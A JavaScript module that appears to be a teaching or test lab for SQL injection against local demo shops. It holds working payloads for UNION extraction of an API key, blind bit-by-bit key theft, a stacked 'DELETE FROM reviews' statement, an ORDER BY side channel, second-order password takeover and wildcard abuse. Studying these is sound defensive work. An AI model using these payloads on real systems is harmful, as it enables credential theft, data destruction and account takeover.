import { API_KEY } from './database.js';

// Each attack gets a shop (one of the two) and its database, and returns true when it has worked.

/** UNION adds the rows of another table to the result. The number of columns must fit, and that can be tried. */
export function union(shop) {
  const rows = shop.search("nothing' UNION SELECT api_key, 0 FROM users --");
  return rows.some(({ name }) => name === API_KEY);
}

// #region blind
/** The page says only "valid" or "not valid". A question with two answers is enough. */
export function blind(shop) {
  const yes = (condition) => shop.hasCoupon(`x' OR (${condition}) --`);
  const code = (i) => `unicode(substr((SELECT api_key FROM users WHERE id = 1), ${i}, 1))`;

  let key = '';
  while (key.length < 20) {
    let [low, high] = [0, 128];
    while (high - low > 1) { // seven questions a letter
      const middle = (low + high) >> 1;
      if (yes(`${code(key.length + 1)} >= ${middle}`)) low = middle;
      else high = middle;
    }
    if (low === 0) break; // past the end: substr gives '', unicode gives NULL
    key += String.fromCharCode(low);
  }
  return key === API_KEY;
}
// #endregion

/** exec() runs every statement of the text. */
export function stacked(shop, db) {
  shop.deleteReview('99; DELETE FROM reviews');
  return db.prepare('SELECT count(*) AS n FROM reviews').get().n === 0;
}

// #region order-by
/** No value is shown at all: the order of two rows is the answer. */
export function orderBy(shop) {
  const first = (condition) => {
    try {
      return shop.list(`CASE WHEN (${condition}) THEN cents ELSE -cents END`)[0].name;
    } catch (err) {
      return `refused: ${err.message}`;
    }
  };
  const startsWith = (letter) => first(`SELECT api_key LIKE '${letter}%' FROM users WHERE id = 1`);
  return startsWith('k') === 'Pen' && startsWith('x') === 'Ink';
}
// #endregion

// #region second-order
/** Bound when it is stored, and harmless there. It strikes when somebody trusts it later. */
export function secondOrder(shop, db) {
  const id = shop.register("ann' --", 'mine');
  shop.changePassword(id, 'known to Mallory');
  return db.prepare("SELECT password FROM users WHERE name = 'ann'").get().password === 'known to Mallory';
}
// #endregion

/** No injection, and bound values do not stop it: % matches everything. */
export function wildcard(shop) {
  return shop.search('%').length > 0;
}
